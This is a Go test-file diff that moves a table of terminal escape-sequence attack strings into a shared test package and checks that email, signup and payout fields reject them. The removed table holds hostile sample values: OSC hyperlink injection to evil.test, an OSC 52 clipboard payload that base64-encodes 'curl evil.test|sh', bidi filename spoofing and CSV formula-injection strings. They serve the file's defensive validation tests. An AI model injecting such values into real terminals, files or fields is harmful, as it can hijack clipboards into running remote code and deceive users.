@@ -5,26 +5,12 @@ import (
 	"strings"
 	"testing"
 	"unicode/utf8"
+
+	"github.com/affogato-sh/affogato/store/sanitize/sanitizetest"
 )
 
-// escapeClasses is the table of escape-sequence classes that must never
-// pass validation nor reach a terminal, a CSV or an email.
-var escapeClasses = []struct{ name, s string }{
-	{"OSC 0 title", "\x1b]0;pwned\x07"},
-	{"OSC 8 hyperlink", "\x1b]8;;https://evil.test\x1b\\click\x1b]8;;\x1b\\"},
-	{"OSC 52 clipboard", "\x1b]52;c;Y3VybCBldmlsLnRlc3R8c2g=\x07"},
-	{"CSI 2J clear", "\x1b[2J"},
-	{"CSI 6n report", "\x1b[6n"},
-	{"DCS", "\x1bP1$r0m\x1b\\"},
-	{"APC", "\x1b_Gpwn\x1b\\"},
-	{"ESC c reset", "\x1bc"},
-	{"8-bit C1 CSI", "\x9b2J"},
-	{"UTF-8 C1 CSI", "\u009b2J"},
-	{"UTF-8 C1 NEL", "\u0085"},
-	{"bidi RLO", "\u202egnp.exe"},
-	{"bidi isolate", "\u2066x\u2069"},
-	{"unterminated OSC", "\x1b]0;never ends"},
-}
+// escapeClasses is the one table of escape-sequence classes.
+var escapeClasses = sanitizetest.Classes
 
 func TestEmailAndPayoutAddressValidation(t *testing.T) {
 	good := []string{"ann@x.test", "ann.lee+tag@mail.example.com", "o'brien@x.test", "a@b.co", "jürgen@bücher.example"}
@@ -39,7 +25,7 @@ func TestEmailAndPayoutAddressValidation(t *testing.T) {
 	bad := []string{"", "ann", "ann@", "@x.test", "Ann <ann@x.test>", "ann @x.test", "ann@x.test ",
 		"ann@x.test\n", "a\xffb@x.test", "ann@x\u200b.test", strings.Repeat("a", 250) + "@x.test"}
 	for _, ec := range escapeClasses {
-		bad = append(bad, "ann"+ec.s+"@x.test", "ann@x.test"+ec.s)
+		bad = append(bad, "ann"+ec.S+"@x.test", "ann@x.test"+ec.S)
 	}
 	for _, s := range bad {
 		if err := ValidEmail(s); !errors.Is(err, ErrInvalid) {
@@ -78,21 +64,21 @@ func TestEmailFieldsRefuseEscapes(t *testing.T) {
 		t.Fatal(err)
 	}
 	for _, ec := range escapeClasses {
-		addr := "ann" + ec.s + "@x.test"
+		addr := "ann" + ec.S + "@x.test"
 		for _, field := range []string{"email", "paypal", "wise"} {
 			if _, err := e.st.SetProfile(pa, field, addr, "EUR"); !errors.Is(err, ErrInvalid) {
-				t.Errorf("%s: profile set %s accepted: %v", ec.name, field, err)
+				t.Errorf("%s: profile set %s accepted: %v", ec.Name, field, err)
 			}
 		}
-		if _, err := e.st.CreateUser("Eve", addr, "SHA256:eve-"+ec.name, "ssh-ed25519 AAAAeve"); !errors.Is(err, ErrInvalid) {
-			t.Errorf("%s: create user accepted the email: %v", ec.name, err)
+		if _, err := e.st.CreateUser("Eve", addr, "SHA256:eve-"+ec.Name, "ssh-ed25519 AAAAeve"); !errors.Is(err, ErrInvalid) {
+			t.Errorf("%s: create user accepted the email: %v", ec.Name, err)
 		}
-		if _, _, err := e.st.SignUp("Eve", addr, "SHA256:eve2-"+ec.name, "ssh-ed25519 AAAAeve2", "acme", ""); !errors.Is(err, ErrInvalid) {
-			t.Errorf("%s: signup accepted the email: %v", ec.name, err)
+		if _, _, err := e.st.SignUp("Eve", addr, "SHA256:eve2-"+ec.Name, "ssh-ed25519 AAAAeve2", "acme", ""); !errors.Is(err, ErrInvalid) {
+			t.Errorf("%s: signup accepted the email: %v", ec.Name, err)
 		}
-		if _, _, err := e.st.RecordConversion("acme", ConversionInput{OrderID: "o-" + ec.name, CustomerID: "c1",
+		if _, _, err := e.st.RecordConversion("acme", ConversionInput{OrderID: "o-" + ec.Name, CustomerID: "c1",
 			CustomerEmail: addr, Amount: "10.00", Currency: "USD", Kind: "sale"}); !errors.Is(err, ErrInvalid) {
-			t.Errorf("%s: conversion accepted the customer email: %v", ec.name, err)
+			t.Errorf("%s: conversion accepted the customer email: %v", ec.Name, err)
 		}
 	}
 	for _, s := range []string{"=1+1@x.test", "+x@x.test", "-x@x.test", "@x@x.test"} {
@@ -116,7 +102,7 @@ func FuzzEmailValidators(f *testing.F) {
 		f.Add(s)
 	}
 	for _, ec := range escapeClasses {
-		f.Add("a" + ec.s + "@x.test")
+		f.Add("a" + ec.S + "@x.test")
 	}
 	f.Fuzz(func(t *testing.T, s string) {
 		errE, errP := ValidEmail(s), ValidPayoutAddress(s)
